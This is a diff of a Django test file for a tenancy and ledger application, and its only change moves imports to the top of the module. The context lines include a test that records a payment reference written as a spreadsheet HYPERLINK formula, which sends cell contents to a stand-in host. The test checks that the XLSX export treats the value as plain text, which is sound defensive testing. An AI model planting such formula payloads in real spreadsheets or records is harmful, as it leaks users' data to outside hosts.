@@ -4,17 +4,21 @@ from __future__ import annotations
 
 import datetime
 from decimal import Decimal
+from io import BytesIO
 
 import pytest
 from django.urls import reverse
 from django.utils.html import escape
 from django.utils.translation import gettext
+from openpyxl import load_workbook
 
 from abitare.accounts.testing import acting
 from abitare.core.models import AccessLogEntry
 from abitare.housing.models import Unit
+from abitare.registry.tests.factories import make_household, make_person
 from abitare.tenancies.models import LedgerEntry, SavingsEntry, Tenancy, TenancyExit, WriteOffRequest
 from abitare.tenancies.services import ledger, savings
+from abitare.tenancies.tests.factories import make_unit
 from conftest import client_for
 
 JAN = datetime.date(2025, 1, 1)
@@ -114,9 +118,6 @@ def test_the_exports_are_a_pdf_and_a_spreadsheet(setup, operator):
     assert contract.content.startswith(b"%PDF")
     assert pdf.content.startswith(b"%PDF")
     assert xlsx.content.startswith(b"PK")
-    from io import BytesIO
-
-    from openpyxl import load_workbook
 
     sheet = load_workbook(BytesIO(xlsx.content)).active
     values = [row for row in sheet.iter_rows(values_only=True) if row and row[0] is not None]
@@ -124,9 +125,6 @@ def test_the_exports_are_a_pdf_and_a_spreadsheet(setup, operator):
 
 
 def test_a_payment_reference_that_looks_like_a_formula_is_text_in_the_statement_xlsx(setup, operator):
-    from io import BytesIO
-
-    from openpyxl import load_workbook
 
     payload = '=HYPERLINK("http://example.invalid/?d="&A1,"Apri")'
     ledger.payment_record(
@@ -212,8 +210,6 @@ def test_an_operator_cannot_approve_a_write_off_and_a_coordinator_can(setup, ope
 
 
 def test_creating_a_tenancy_by_hand_on_the_page(world, operator):
-    from abitare.registry.tests.factories import make_household, make_person
-    from abitare.tenancies.tests.factories import make_unit
 
     unit = make_unit(operator, territory=world.neighbourhood, organisation=world.organisation, code="9Z")
     household = make_household(operator, make_person(operator, n=9), name="Famiglia Nove")
